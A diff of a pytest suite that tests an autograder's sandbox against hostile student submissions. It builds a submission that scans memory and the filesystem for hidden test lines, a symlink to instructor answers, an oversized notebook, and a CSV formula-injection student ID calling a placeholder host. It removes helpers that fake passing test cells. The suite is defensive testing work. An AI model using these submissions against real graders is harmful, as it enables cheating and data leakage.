@@ -1,16 +1,19 @@
 """Does a hostile submission gain nothing, harm nothing, and leave the rest of the class alone?"""
 import csv
+import hashlib
 import json
+import os
 import pathlib
 import socket
 import subprocess
 import sys
 import threading
+import time
 
 import pytest
 
 from autograder import sandbox, selftest
-from autograder.paths import REPO
+from autograder.paths import ASSIGNMENTS, REPO
 
 A = "01_conv_as_matrix"
 ATTACKS = sorted((pathlib.Path(__file__).parent / "attacks").glob("*.py"))
@@ -20,7 +23,7 @@ pytestmark = [
     pytest.mark.slow, pytest.mark.xdist_group("sandbox"),
     # without namespaces the attacks would run as the TA's own user: the kill and fork attacks would
     # hit the TA's processes, so they run only where the grader can isolate them (CI runs as root)
-    pytest.mark.skipif(not sandbox.capabilities()["namespaces"],
+    pytest.mark.skipif(not sandbox.capabilities()["namespaces"] or not sandbox.capabilities()["cgroups"],
                        reason="needs root and namespaces to contain the attacks safely"),
 ]
 
@@ -32,10 +35,120 @@ def _attack_notebook(path: pathlib.Path, port: int) -> dict:
     deleted, so a breach shows as lost points.
     """
     case = selftest.load_case(path)
-    name, code = next(iter(selftest._solution_sources(A).items()))
+    name, code = next(iter(selftest.solution_sources(A).items()))
     attack = case.overrides["attack"].replace("ATTACK_PORT", str(port))
     cell = f"{attack}\n{code}\nif globals().get('BREACHED'):\n    del {name}\n"
     return selftest.build_submission(A, {name: cell})
+
+
+SECRET = "s3cret-grader-token-1217"
+SHM_KEY = 0xAE1217
+
+
+def _hidden_line_hashes(assignment: str) -> set[str]:
+    return {hashlib.sha256(line.encode()).hexdigest() for line in selftest.hidden_lines(assignment)}
+
+
+def searcher(assignment: str) -> dict:
+    """A student whose functions, each time a test calls them, search everything they can reach for hidden test
+    lines (by hash): the call stack, every object the garbage collector knows, the environment and the readable
+    files. The last exercise reports what was found in its error message (the only way out during a test)."""
+    names = list(selftest.solution_sources(assignment))
+    own = "return _aekit_search_report()  # a line of the student's own: the control the search must find"
+    hashes = sorted(_hidden_line_hashes(assignment) | {hashlib.sha256(own.strip().encode()).hexdigest()})
+    control = hashlib.sha256(own.strip().encode()).hexdigest()
+    search = f"""import gc as _gc, hashlib as _hl, os as _os, sys as _sys
+_WANTED = set({hashes!r})
+_CONTROL = {control!r}
+_SEEN, _FOUND, _FILES = set(), set(), []
+
+
+def _aekit_text(text):
+    for line in str(text).splitlines():
+        line = line.strip()
+        if len(line) > 12:
+            h = _hl.sha256(line.encode(errors="replace")).hexdigest()
+            _SEEN.add(h)
+            if h in _WANTED:
+                _FOUND.add(h)
+
+
+def _aekit_value(v, depth=0):
+    if isinstance(v, (str, bytes)):
+        _aekit_text(v if isinstance(v, str) else v.decode(errors="replace"))
+    elif hasattr(v, "co_consts") and depth < 3:
+        for c in v.co_consts:
+            _aekit_value(c, depth + 1)
+
+
+def _aekit_search():
+    for o in _gc.get_objects():
+        try:
+            items = o.values() if isinstance(o, dict) else o if isinstance(o, (list, tuple, set)) else ()
+            for v in items:
+                _aekit_value(v)
+        except Exception:
+            pass
+        _aekit_value(o)
+    for frame in _sys._current_frames().values():
+        while frame is not None:
+            _aekit_value(frame.f_code)
+            for v in list(frame.f_locals.values()) + list(frame.f_globals.values()):
+                _aekit_value(v)
+            frame = frame.f_back
+    for v in _os.environ.values():
+        _aekit_text(v)
+    if not _FILES:
+        _FILES.append(1)
+        for top in ("/", ):
+            for d, dirs, files in _os.walk(top):
+                dirs[:] = [x for x in dirs if _os.path.join(d, x) not in ("/proc", "/sys", "/dev", "/usr", "/lib",
+                                                                          "/lib64", "/etc", "/bin", "/sbin")]
+                for f in files:
+                    p = _os.path.join(d, f)
+                    try:
+                        if _os.path.getsize(p) < 4 * 2**20 and not p.endswith((".so", ".pyc")):
+                            _aekit_text(open(p, encoding="utf-8", errors="replace").read())
+                    except OSError:
+                        pass
+
+
+def _aekit_search_report():
+    return f"SEARCH found={{len(_FOUND - {{_CONTROL}})}} control={{int(_CONTROL in _FOUND)}} lines={{len(_SEEN)}}"
+"""
+    reference = selftest.solution_sources(assignment)
+    overrides = {}
+    for i, name in enumerate(names):
+        code = reference[name].replace(f"def {name}(", f"def _real_{name}(", 1)
+        last = i == len(names) - 1
+        wrapper = (f"\n\ndef {name}(*args, **kwargs):\n    _aekit_search()\n"
+                   + (f"    raise RuntimeError(_aekit_search_report())\n    {own}\n" if last
+                      else f"    return _real_{name}(*args, **kwargs)\n"))
+        overrides[name] = (search if i == 0 else "") + "\n\n" + code + wrapper
+    return selftest.build_submission(assignment, overrides)
+
+
+def _huge_notebook() -> bytes:
+    cell = json.dumps({"cell_type": "code", "metadata": {}, "source": "x = 1", "outputs": [], "execution_count": None})
+    return ('{"cells": [' + ",".join([cell] * 400_000) + '], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}').encode()
+
+
+def _real_leftovers() -> dict:
+    """What a job could leave behind on the machine: kernel users' processes, cgroups, a shared-memory key, files."""
+    import psutil
+
+    procs = []
+    for p in psutil.process_iter(["uids", "cmdline"]):
+        try:
+            if p.info["uids"] and sandbox.UID_BASE <= p.info["uids"].real < sandbox.UID_BASE + sandbox.UID_SPAN:
+                procs.append(p.pid)
+        except psutil.Error:
+            pass
+    cgroups = [str(c) for c in pathlib.Path("/sys/fs/cgroup").glob("*/aekit-*")]
+    shm = pathlib.Path("/proc/sysvipc/shm")
+    keys = [line.split()[0] for line in shm.read_text().splitlines()[1:]] if shm.exists() else []
+    files = [str(p) for d in ("/run/lock", "/var/tmp", "/dev/shm", "/tmp") for p in pathlib.Path(d).glob("aekit-attack-*")]
+    return {"processes": procs, "cgroups": cgroups, "shm": [k for k in keys if int(k) == SHM_KEY], "files": files}
 
 
 @pytest.fixture(scope="module")
@@ -70,28 +183,45 @@ def attacked_class(tmp_path_factory):
     for path in ATTACKS:
         (cls / path.stem).mkdir(parents=True)
         (cls / path.stem / f"{A}.ipynb").write_text(json.dumps(_attack_notebook(path, port)))
+    for a in ASSIGNMENTS:
+        (cls / f"searcher-{a[:2]}").mkdir(parents=True)
+        (cls / f"searcher-{a[:2]}" / f"{a}.ipynb").write_text(json.dumps(searcher(a)))
+    (cls / "linker").mkdir()  # a notebook folder that is a link to the instructor's answers
+    (cls / "linker" / A).symlink_to(REPO / "solutions" / A)
+    for sid, nb in (("victor", selftest.build_submission(A)), ("-victor", selftest.build_submission(A, blank=True)),
+                    ('=HYPERLINK("https://x/?"&A2,"regrade")', selftest.build_submission(A, blank=True))):
+        (cls / sid).mkdir()
+        (cls / sid / f"{A}.ipynb").write_text(json.dumps(nb))
+    (cls / "huge").mkdir()
+    (cls / "huge" / f"{A}.ipynb").write_bytes(_huge_notebook())
+    before = _real_leftovers()
     out = root / "out"
+    env = dict(os.environ, AEKIT_TEST_SECRET=SECRET)
     proc = subprocess.run([sys.executable, "-m", "autograder", "grade", str(cls), "--out", str(out),
-                           "--notebooks", "01", "--timeout", "30", "--workers", "2"],
-                          cwd=REPO, capture_output=True, text=True, timeout=1200)
+                           "--timeout", "60", "--workers", "3"],
+                          cwd=REPO, capture_output=True, text=True, timeout=1500, env=env)
+    time.sleep(1)
+    after = _real_leftovers()
     stop.set()
     thread.join()
     server.close()
     with open(out / "grades.csv", encoding="utf-8") as f:
-        rows = {r["student_id"]: r for r in csv.DictReader(f)}
-    return proc, rows, accepted
+        rows = {(r["student_id"], r["notebook"]): r for r in csv.DictReader(f)}
+    with open(out / "tests.csv", encoding="utf-8") as f:
+        tests = list(csv.DictReader(f))
+    return proc, {sid: r for (sid, a), r in rows.items() if a == A}, accepted, out, before, after, rows, tests
 
 
 def test_the_grader_survives_the_whole_class(attacked_class):
     """Does the grader finish with exit 0 and a row for every student?"""
-    proc, rows, _ = attacked_class
+    proc, rows = attacked_class[:2]
     assert proc.returncode == 0, proc.stderr[-2000:]
-    assert len(rows) == len(HONEST) + len(CASES) + len(ATTACKS)
+    assert len(rows) == len(HONEST) + len(CASES) + len(ATTACKS) + len(ASSIGNMENTS) + 5
 
 
 def test_honest_students_are_graded_as_in_a_clean_run(attacked_class):
     """Are the honest students, graded beside the attackers, given full marks?"""
-    _, rows, _ = attacked_class
+    rows = attacked_class[1]
     for sid in HONEST:
         assert rows[sid]["status"] == "graded" and rows[sid]["score"] == rows[sid]["max_score"], rows[sid]
 
@@ -99,11 +229,11 @@ def test_honest_students_are_graded_as_in_a_clean_run(attacked_class):
 @pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
 def test_the_rest_of_the_class_gets_exactly_its_scores(attacked_class, case):
     """Does every other student, right, wrong or forging, get exactly the score it gets alone?"""
-    from autograder.nbgrade import test_cells
+    from autograder.course import test_cells
 
-    _, rows, _ = attacked_class
+    rows = attacked_class[1]
     row = rows[f"case_{case.name}"]
-    points = {c["test_id"]: c["points"] for c in test_cells(A)}
+    points = {c.test_id: c.points for c in test_cells(A)}
     want = sum(points.values()) - sum(points[t] for t in case.expect_failed)
     assert row["status"] == "graded" and float(row["score"]) == want, (case.description, row)
 
@@ -111,7 +241,7 @@ def test_the_rest_of_the_class_gets_exactly_its_scores(attacked_class, case):
 @pytest.mark.parametrize("path", ATTACKS, ids=lambda p: p.stem)
 def test_attack_is_contained(attacked_class, path):
     """Does the attack get the status it must, and gain (or break) nothing?"""
-    _, rows, _ = attacked_class
+    rows = attacked_class[1]
     case = selftest.load_case(path)
     values = {}
     exec(compile(path.read_text().split("# %% attack")[0], str(path), "exec"), values)
@@ -127,65 +257,66 @@ def test_attack_is_contained(attacked_class, path):
 
 def test_nothing_was_planted_or_connected(attacked_class):
     """Did no attack write into the checkout or reach a localhost server?"""
-    _, _, accepted = attacked_class
+    accepted = attacked_class[2]
     assert not (REPO / "PWNED").exists()
     if sandbox.capabilities()["namespaces"]:
         assert accepted == [], "a submission connected to a server on the grader's machine"
 
 
-def _edited(edit) -> dict:
-    """An untouched (blank) release whose JSON a student has edited by `edit(nb)`."""
-    nb = selftest.build_submission(A, blank=True)
-    edit(nb)
-    return nb
+@pytest.mark.parametrize("assignment", ASSIGNMENTS)
+def test_no_hidden_test_line_reaches_the_students_process(attacked_class, assignment):
+    """Searching its stack, every object, the environment and every readable file during every test call, does a
+    student find no line of any hidden test (while finding a line of its own, so the search works)?"""
+    tests = attacked_class[7]
+    name = list(selftest.solution_sources(assignment))[-1]
+    reports = [t["message"] for t in tests if t["student_id"] == f"searcher-{assignment[:2]}"
+               and t["test_id"].startswith(f"test_{name}") and "SEARCH" in t["message"]]
+    assert reports, [t["message"] for t in tests if t["student_id"] == f"searcher-{assignment[:2]}"]
+    for report in reports:
+        assert "found=0 " in report and "control=1" in report, report
 
 
-def _neuter_tests(nb):
-    for cell in nb["cells"]:
-        meta = cell.get("metadata", {}).get("nbgrader", {})
-        if meta.get("grade"):
-            cell["source"] = "pass  # tests removed"
-            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "All tests passed!\n"}]
-            cell["execution_count"] = 1
+def test_a_linked_notebook_folder_is_rejected_not_followed(attacked_class):
+    """Does a notebook folder that links to the instructor's answers earn nothing and get reported?"""
+    proc, rows = attacked_class[:2]
+    assert rows["linker"]["status"] == "missing" and float(rows["linker"]["score"]) == 0
+    assert "linker" in (attacked_class[3] / "collection_report.csv").read_text()
 
 
-def _inflate_metadata(nb):
-    for cell in nb["cells"]:
-        meta = cell.get("metadata", {}).get("nbgrader", {})
-        if meta.get("grade"):
-            meta["points"] = 100
-            meta["locked"] = False
-            meta["checksum"] = "0" * 32
-    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "python"}
-    nb["nbformat_minor"] = 1
+def test_student_ids_are_kept_exactly_and_never_merge(attacked_class):
+    """Are `victor` and `-victor` two students, the honest one with full marks?"""
+    rows = attacked_class[1]
+    assert rows["victor"]["score"] == rows["victor"]["max_score"] and float(rows["-victor"]["score"]) == 0
 
 
-def _delete_and_duplicate_tests(nb):
-    tests = [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
-    for cell in tests[1:]:
-        nb["cells"].remove(cell)
-    nb["cells"].extend([dict(tests[0]), dict(tests[0])])
+def test_no_csv_cell_can_start_a_formula(attacked_class):
+    """Is every CSV cell that would start a formula neutralised, the attacker's id among them?"""
+    out = attacked_class[3]
+    seen = 0
+    for name in ("grades.csv", "tests.csv", "collection_report.csv"):
+        with open(out / name, encoding="utf-8") as f:
+            for row in csv.reader(f):
+                for cell in row:
+                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+                    seen += cell.startswith("'=HYPERLINK")
+    assert seen >= 2
 
 
-def _reorder_and_rename_tests(nb):
-    tests = [c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade")]
-    for cell in tests:
-        nb["cells"].remove(cell)
-        cell["metadata"]["nbgrader"]["grade_id"] += "_mine"
-        cell["source"] = "print('passed')"
-    nb["cells"][1:1] = tests[::-1]
+def test_a_huge_notebook_is_refused_before_it_is_parsed(attacked_class):
+    """Is a 400,000-cell notebook refused by its cell count, without parsing it in the grader?"""
+    row = attacked_class[1]["huge"]
+    assert row["status"] == "invalid" and "cells" in row["detail"], row
 
 
-@pytest.mark.parametrize("edit", [_neuter_tests, _inflate_metadata, _delete_and_duplicate_tests,
-                                  _reorder_and_rename_tests],
-                         ids=lambda f: f.__name__.strip("_"))
-def test_editing_tests_or_metadata_gains_nothing(edit, grade_nb):
-    """Does a blank notebook whose tests, points or kernelspec were edited still earn nothing out of the true maximum?"""
-    from autograder.nbgrade import max_score
+def test_no_grader_secret_is_in_a_kernels_memory(attacked_class):
+    """Does a kernel that scans its environment, /proc and its own memory find no secret of the grader's?"""
+    out = attacked_class[3]
+    notebook = (out / "autograded" / "grader_secrets" / A / f"{A}.ipynb").read_text()
+    assert "scanned" in notebook and SECRET not in notebook
 
-    result = grade_nb(_edited(edit), A)
-    if edit in (_delete_and_duplicate_tests, _reorder_and_rename_tests):
-        assert result.status == "invalid" and "deleted" in result.detail, result.detail
-    else:
-        assert result.status == "graded", result.detail
-    assert result.score == 0 and result.max_score == max_score(A)
+
+def test_nothing_of_a_job_outlives_it(attacked_class):
+    """After the run, is no kernel process, cgroup, shared-memory segment or left-behind file still there?"""
+    before, after = attacked_class[4], attacked_class[5]
+    assert after["processes"] == [] and after["shm"] == [] and after["files"] == []
+    assert set(after["cgroups"]) <= set(before["cgroups"])
